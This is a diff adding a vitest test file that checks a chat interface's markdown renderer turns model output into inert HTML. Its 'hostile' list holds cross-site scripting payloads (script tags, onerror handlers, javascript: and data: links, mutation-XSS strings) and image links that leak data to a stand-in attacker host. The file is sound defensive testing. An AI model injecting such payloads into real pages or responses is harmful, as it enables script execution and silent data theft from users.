@@ -1,0 +1,129 @@
+/** What a model writes becomes text, never a program, and never a request. */
+
+import { describe, expect, test } from "vitest";
+import { blockRenderer } from "../src/views/markdown/render";
+
+const render = (text: string, references: { marker: number; title: string }[] = []) => {
+  const root = document.createElement("div");
+  root.innerHTML = blockRenderer()(text, references, "")
+    .map(({ html }) => html)
+    .join("");
+  return root;
+};
+
+const hostile = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  '<a href="javascript:alert(1)">x</a>',
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+  "<form action=//attacker.example><button>go</button></form>",
+  "<p style='background:url(//attacker.example)'>x</p>",
+  "[x](javascript:alert(1))",
+  "[x](JaVaScRiPt:alert(1))",
+  "[x](java\tscript:alert(1))",
+  "[x](data:text/html,<script>alert(1)</script>)",
+  "[x](vbscript:alert(1))",
+  "[x](//attacker.example/protocol-relative)",
+  "[x](/api/chats)",
+  '[x](https://a.example/"onmouseover="alert(1))',
+  '[x](https://a.example "t\\" onmouseover=alert(1) x=\\"")',
+  "![x](javascript:alert(1))",
+  "![x](https://attacker.example/leak?d=secret)",
+  "![x][r]\n\n[r]: https://attacker.example/leak",
+  '![x" onerror="alert(1)](https://attacker.example/x)',
+  "<https://attacker.example/auto>",
+  "<javascript:alert(1)>",
+  "```\"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
+  "```html\n<script>alert(1)</script>\n```",
+  "`<img src=x onerror=alert(1)>`",
+  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
+  "# <img src=x onerror=alert(1)>",
+  "- [ ] <input autofocus onfocus=alert(1)>",
+  "<!--><script>alert(1)</script>-->",
+  "<div data-marker='1' class='chip'>1</div>",
+  '<button data-marker="1">1</button>',
+  "\u0000<scr\u0000ipt>alert(1)</script>",
+];
+const allowed = "a blockquote br button code del div em h3 h4 h5 h6 hr li ol p pre span strong table tbody td th thead tr ul";
+
+function expectHarmless(root: HTMLElement): void {
+  for (const element of root.querySelectorAll("*")) {
+    expect(allowed.split(" ")).toContain(element.localName);
+    for (const { name, value } of element.attributes) {
+      expect(name).not.toMatch(/^on|^style$|^src|^srcdoc$|^action$|^formaction$/);
+      if (name === "href") expect(value).toMatch(/^(https?:\/\/|mailto:)/);
+    }
+    if (element.localName === "a") {
+      expect(element.getAttribute("rel")).toContain("noopener noreferrer");
+      expect(element.getAttribute("target")).toBe("_blank");
+      expect(element.getAttribute("title")).toBe(element.getAttribute("href"));
+    }
+  }
+  expect(root.querySelector("[data-marker]")).toBeNull();
+}
+
+describe("hostile text", () => {
+  test.each(hostile)("%s", (text) => {
+    for (const wrapped of [text, `before ${text} after`, `> ${text}`, `- ${text}`, `${text}\n\n${text}`]) {
+      expectHarmless(render(wrapped));
+    }
+  });
+
+  test.each(hostile)("cut anywhere, as it streams: %s", (text) => {
+    for (let end = 1; end <= text.length; end++) expectHarmless(render(text.slice(0, end)));
+  });
+
+  test.each(hostile)("as the title of a source: %s", (title) => {
+    const chip = render("[1]", [{ marker: 1, title }]).querySelectorAll("*");
+    expect([...chip].map(({ localName }) => localName)).toEqual(["p", "button"]);
+  });
+});
+
+test("an image is a link with its whole address to be read", () => {
+  const link = render("![a cat](https://attacker.example/cat.png?d=1)").querySelector("a");
+  expect(link?.textContent).toBe("a cat: https://attacker.example/cat.png?d=1");
+});
+
+test("a link that names another host shows where it goes", () => {
+  expect(render("[https://bank.example](https://evil.example/login)").textContent?.trim()).toBe("https://evil.example/login");
+  expect(render("[bank.example](https://bank.example/help)").textContent?.trim()).toBe("bank.example");
+});
+
+describe("markers", () => {
+  const known = [{ marker: 1, title: "One" }, { marker: 12, title: "Twelve" }];
+
+  test("become chips only where a citation was sent", () => {
+    const root = render("a [1] b [2] c [12][1]", known);
+    expect([...root.querySelectorAll("button")].map(({ dataset }) => dataset.marker)).toEqual(["1", "12", "1"]);
+    expect(root.textContent).toContain("b [2] c");
+  });
+
+  test("stay what they are in code, and can't be turned into links", () => {
+    expect(render("`x[1]`", known).querySelector("button")).toBeNull();
+    const root = render("see [3]\n\n[3]: https://attacker.example", known);
+    expect(root.querySelector("a")).toBeNull();
+    expect(root.textContent).toContain("[3]");
+  });
+
+  test("that come after the text was shown are chips then", () => {
+    const blocks = blockRenderer();
+    expect(blocks("a [1]", [], "")[0]?.html).not.toContain("button");
+    expect(blocks("a [1]", known, "")[0]?.html).toContain("button");
+  });
+});
+
+test("headings never skip a level, whatever the model wrote", () => {
+  const root = render("# a\n\n#### b\n\n###### c\n\n## d\n\n##### e\n\n# f");
+  expect([...root.children].map(({ localName }) => localName)).toEqual(["h3", "h4", "h5", "h4", "h5", "h3"]);
+});
+
+test("blocks that did not change are the same, block for block", () => {
+  const blocks = blockRenderer();
+  const before = blocks("# One\n\nTwo **bold**\n\n```js\nlet", [], "");
+  const after = blocks("# One\n\nTwo **bold**\n\n```js\nlet x = 1", [], "");
+  expect(after.map(({ key }) => key)).toEqual(before.map(({ key }) => key));
+  expect(after.slice(0, 2)).toEqual(before.slice(0, 2));
+  expect(after[2]?.html).toContain("let x = 1");
+});
